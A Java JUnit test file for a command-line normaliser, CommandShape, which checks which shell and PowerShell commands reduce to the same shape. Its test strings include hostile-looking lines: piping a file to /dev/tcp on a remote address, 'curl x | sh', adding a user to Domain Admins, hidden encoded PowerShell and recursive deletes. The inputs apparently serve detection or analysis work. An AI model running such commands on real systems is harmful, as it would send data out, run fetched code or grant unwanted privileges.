package dev.longtail.udfs.shape;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.udfs.testing.Any;
import dev.longtail.udfs.testing.Property;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandShapeTest {
  private static String shape(String line) {
    return CommandShape.of(line).text();
  }

  /** The rows of the page's last table, whose cells are code. */
  static Stream<Arguments> examples() throws IOException {
    List<String> page = Files.readAllLines(Path.of("../docs/shapes.md"));
    return page.subList(page.indexOf("## Examples"), page.size()).stream()
        .filter(row -> row.startsWith("| `"))
        .map(row -> row.substring(3, row.length() - 3).split("` \\| `", -1))
        .map(cells -> Arguments.of(unescaped(cells[0]), unescaped(cells[1])));
  }

  private static String unescaped(String cell) {
    return cell.replace("\\|", "|");
  }

  @ParameterizedTest
  @MethodSource("examples")
  void isAsThePageSays(String line, String shape) {
    assertThat(shape(line)).isEqualTo(shape);
  }

  @Test
  void thePageHasExamples() throws IOException {
    assertThat(examples()).hasSizeGreaterThan(30);
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " <> ",
      quoteCharacter = '~',
      value = {
        "tar -x -z -f a.tgz <> tar -f b.tgz -z -x",
        "/usr/bin/sudo /sbin/ip addr show <> sudo ip addr show",
        "C:\\Windows\\System32\\CMD.EXE /C dir <> cmd /c dir",
        "powershell -NoP -W Hidden -File a.ps1 <> POWERSHELL.exe -noprofile /windowstyle 1 -f"
            + " a.ps1",
        "Get-Item -Path C:\\a <> get-item -path:D:\\b",
        "curl -o x http://a/b?c=1&d=2 <> curl -o y http://e/f",
        "git commit -m 'fix | the && pipe' <> git commit -m other",
        "tail -n5 x <> tail -n 20 y",
        "head -5 x <> head -10 x",
        "./job_17.sh <> ./job_18.sh",
        "/opt/b1f3a9b7/agent-0042 run <> /opt/x/agent-0099 run",
        "# ls -l <> ls -l",
        "PS C:\\> ls -l <> ls -l",
        "tar cf a.tar x | ssh h 'cat > b' <> tar cf c.tar y | ssh i 'cat > d'",
        "$a = 'x.txt' <> $b = \"y.txt\"",
        "sudo -nu alice id <> sudo -nu bob id",
        "/tmp/fz8q1k2mm9x3t -v <> /tmp/a1b2c3d4e5f6g -v",
        "msiexec /i C:\\a.msi /qn <> msiexec /qn /i D:\\b.msi",
      })
  void isThatOfItsLike(String a, String b) {
    assertThat(shape(a)).isEqualTo(shape(b));
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " <> ",
      quoteCharacter = '~',
      value = {
        "ls -l <> ls -a",
        "grep -v x <> grep -V x",
        "curl x | sh <> curl x ; sh",
        "curl x && sh <> curl x || sh",
        "git push <> git pull",
        "docker compose up <> docker compose down",
        "kubectl get pods <> kubectl delete pods",
        "aws s3 ls <> aws s3 rb",
        "net user /add <> net user /delete",
        "net localgroup administrators bob /add <> net localgroup users bob /add",
        "net group 'Domain Admins' bob /add <> net group 'Domain Users' bob /add",
        "sudo cat x <> sudo rm x",
        "bash -c 'curl x' <> bash -c 'rm x'",
        "cmd /c whoami <> cmd /c del x",
        "find . -exec ls {} \\; <> find . -exec rm {} \\;",
        "find . -exec rm {} \\; -print <> find . -exec rm {} \\; -delete",
        "docker exec a sh -c 'ls' <> docker exec a sh -c 'rm x'",
        "ssh h uptime <> ssh h reboot",
        "rundll32 a.dll,One <> rundll32 a.dll,Two",
        "python -m pip <> python -m http.server",
        "echo $(id) <> echo $(ls)",
        "openssl dgst -sha256 x <> openssl dgst -sha1 x",
        "LD_PRELOAD=a ls <> PATH=a ls",
        "cat x > y <> cat x >> y",
        "cat x > /dev/tcp/1.2.3.4/5 <> cat x > y",
        "powershell -e ZQBjAGgAbwAgADEA <> powershell -e ZQBjAGgAbwAgADIA",
        "echo aGVsbG8gd29ybGQsIGhlbGxv <> echo aGVsbG8gd29ybGQsIGhlbGxw",
        "Move-Item x \"$dir\\\" -Force <> Move-Item x \"$dir\\\" -LiteralPath",
        "del \"C:\\a b\\\" /s <> del \"C:\\a b\\\" /q",
        "printf '\\x41\\x42\\x43\\x44' <> printf '\\x41\\x42\\x43\\x45'",
      })
  void isNotThatOfAnother(String a, String b) {
    assertThat(shape(a)).isNotEqualTo(shape(b));
  }

  @Test
  void unixPathsAreNoSwitches() {
    assertThat(shape("ls /tmp /etc/x")).isEqualTo("ls");
    assertThat(shape("reg query HKLM /s")).isEqualTo("reg query /s");
    assertThat(shape("C:\\x\\setup.exe /quiet /log:C:\\l.txt")).isEqualTo("setup /log /quiet");
    assertThat(shape("Get-ChildItem /usr -Recurse")).isEqualTo("get-childitem -recurse");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", " ", "\0", "\ud800", "\udfff|\ud800", "'", "\"", "\\", "^", "`", "$("})
  void anythingHasAShape(String line) {
    assertThat(shape(line)).isNotNull();
  }

  @Test
  void digestIsThatOfTheText() {
    CommandShape one = CommandShape.of("ls -l /tmp");
    assertThat(one).isEqualTo(CommandShape.of("ls /home -l"));
    assertThat(one.digest()).isEqualTo(CommandShape.of("ls /home -l").digest());
    assertThat(one.digest()).isNotEqualTo(CommandShape.of("ls -a").digest());
  }

  @Property
  void neverThrows(Any any) {
    String line = any.text();
    assertThat(CommandShape.of(line)).isEqualTo(CommandShape.of(line));
  }

  @Property(tries = 4000)
  void neverThrowsOnWhatLooksLikeCommands(Any any) {
    List<String> fragments = fragments(any);
    String shape = shape(String.join("", fragments));
    assertThat(shape).isEqualTo(shape.strip());
    assertThat(shape.chars().filter(c -> c == '\n')).isEmpty();
  }

  /** Blanks more or less between words are none of a shape's. */
  @Property(tries = 2000)
  void blanksDoNotCount(Any any) {
    List<String> words = words(any);
    assertThat(shape(" " + String.join("   ", words) + "\t"))
        .isEqualTo(shape(String.join(" ", words)));
  }

  private static List<String> fragments(Any any) {
    String[] parts = {
      " ",
      " ",
      "git",
      "sudo",
      "bash -c ",
      "cmd /c ",
      "powershell -c ",
      "find -exec ",
      "-x",
      "--y=1",
      "/s",
      "/q",
      "'",
      "\"",
      "\\",
      "^",
      "`",
      "$(",
      "(",
      ")",
      "{",
      "}",
      "@{",
      "|",
      "||",
      "&",
      "&&",
      ";",
      ">",
      "2>&1",
      "<<",
      "<(",
      "<name>",
      "$x",
      "=",
      "#",
      "\n",
      "C:\\a b",
      "/etc/x",
      "http://a?b&c",
      "ZQBjAGgAbwAgADEAZQBjAGgAbwA=",
      "\\x41\\x42\\x43\\x44",
      "1,2,3,",
      "service",
      "rundll32 a.dll,",
      "-enc ",
      "schtasks /tr ",
      "python -m ",
      "ssh ",
      "PS C:\\> ",
      "$ ",
      "\ud83d",
      "\0"
    };
    return any.list(0, 24, () -> any.of(parts));
  }

  private static List<String> words(Any any) {
    String[] parts = {
      "git",
      "sudo",
      "bash",
      "-c",
      "'a b'",
      "\"$(id) x\"",
      "/s",
      "-x",
      "--y=1",
      "|",
      "&&",
      ";",
      "(",
      ")",
      "2>&1",
      ">",
      "x",
      "{}",
      "\\;",
      "docker",
      "run",
      "cmd",
      "/c",
      "A=1"
    };
    return any.list(1, 16, () -> any.of(parts));
  }

  /**
   * Each would take hours if the work grew with the square of the length, or overflow the stack.
   */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "a",
        "(",
        ")",
        "$(",
        "\"$(",
        "{",
        "`a ",
        "'",
        "\"",
        "\\\"",
        "\\",
        "^",
        "|",
        "& ",
        ">",
        "<",
        "<a",
        "sudo ",
        "bash -c '",
        "bash -c \"",
        "cmd /c ",
        "find -exec ",
        "-a ",
        "/a ",
        "A= ",
        "$x = ",
        "\\x41",
        "%41",
        "\\x41\\x41\\x41 ",
        "1,",
        "1 ,",
        "aB3",
        "#",
        "@{",
        "((a) ",
        "x=(",
        "env A=1 ",
        "powershell -c ",
        "ssh x ",
        "\n",
        "-",
        "=",
        "a-",
        "xargs sh -c "
      })
  void takesTimeInProportionToTheLength(String part) {
    String line = part.repeat(1_000_000 / part.length());
    Assertions.assertTimeoutPreemptively(
        Duration.ofSeconds(20), () -> assertThat(shape(line)).isNotNull());
  }
}
